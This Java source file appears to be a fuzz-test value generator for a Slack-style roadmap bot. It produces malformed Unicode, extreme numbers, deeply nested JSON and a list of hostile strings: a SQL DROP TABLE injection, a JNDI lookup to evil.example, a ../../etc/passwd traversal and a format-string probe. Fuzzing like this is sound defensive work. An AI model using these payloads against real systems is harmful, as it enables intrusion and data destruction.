package io.github.roadmapbot.journey;

import com.google.gson.JsonArray;
import com.google.gson.JsonElement;
import com.google.gson.JsonNull;
import com.google.gson.JsonObject;
import com.google.gson.JsonPrimitive;
import java.util.List;
import java.util.function.Supplier;
import java.util.random.RandomGenerator;

/** Values that programs stumble over. */
final class Values {

    private static final List<String> TEXTS = List.of(
            "",
            " ",
            "\u0000",
            "\ud800",
            "\u202e\u200b\ufeff",
            "e\u0301\u0327\ud83c\udff3\ufe0f\u200d\ud83c\udf08",
            "<!channel> <@U0MEMBER001> <https://evil.example|safe>",
            "'; DROP TABLE suggestion; --",
            "%s %n ${jndi:ldap://evil.example/x}",
            "../../etc/passwd",
            "R-1",
            "R-99999999999999999999",
            "R-0",
            "T0STRANGER1",
            "U0STRANGER1",
            "U0ROADMAPBT",
            "C0STRANGER1",
            "C0MAINT0001",
            "C0FEEDBACK1",
            "review-approve",
            "review-decline",
            "review-undo",
            "step-retry",
            "step-give-up",
            "receipt-withdraw",
            "approve",
            "suggest",
            "event_callback",
            "block_actions",
            "view_submission",
            "view_closed",
            "shortcut",
            "message_action",
            "dialog_submission",
            "url_verification",
            "workflow_step_execute",
            "app_uninstalled",
            "tokens_revoked",
            "reaction_added",
            "message",
            "1e999999999",
            "-1",
            "1763654400.000200",
            "9223372036854775808.1");

    private static final List<Number> NUMBERS =
            List.of(0, -1, 1, 0.5, Integer.MAX_VALUE, Long.MIN_VALUE, 1e308, 3_000_000_000L);

    private static final int LONG = 5_000;
    private static final int DEEP = 600;

    private final RandomGenerator random;
    private final List<Supplier<JsonElement>> kinds = List.of(
            () -> JsonNull.INSTANCE,
            JsonObject::new,
            JsonArray::new,
            () -> new JsonPrimitive(true),
            this::number,
            () -> new JsonPrimitive(text()),
            () -> new JsonPrimitive(text()),
            () -> new JsonPrimitive(text()),
            this::list,
            this::rarelyHuge);

    Values(RandomGenerator random) {
        this.random = random;
    }

    JsonElement any() {
        return kinds.get(random.nextInt(kinds.size())).get();
    }

    String text() {
        return TEXTS.get(random.nextInt(TEXTS.size()));
    }

    private JsonElement number() {
        return new JsonPrimitive(NUMBERS.get(random.nextInt(NUMBERS.size())));
    }

    private JsonElement list() {
        JsonArray list = new JsonArray();
        list.add(text());
        list.add(JsonNull.INSTANCE);
        return list;
    }

    private JsonElement rarelyHuge() {
        return switch (random.nextInt(4)) {
            case 0 -> new JsonPrimitive("long ".repeat(random.nextInt(LONG)));
            case 1 -> deep();
            default -> new JsonPrimitive(text());
        };
    }

    private JsonElement deep() {
        JsonElement inner = new JsonPrimitive("deep");
        int depth = random.nextInt(DEEP);
        for (int i = 0; i < depth; i++) {
            JsonArray outer = new JsonArray();
            outer.add(inner);
            inner = outer;
        }
        return inner;
    }
}
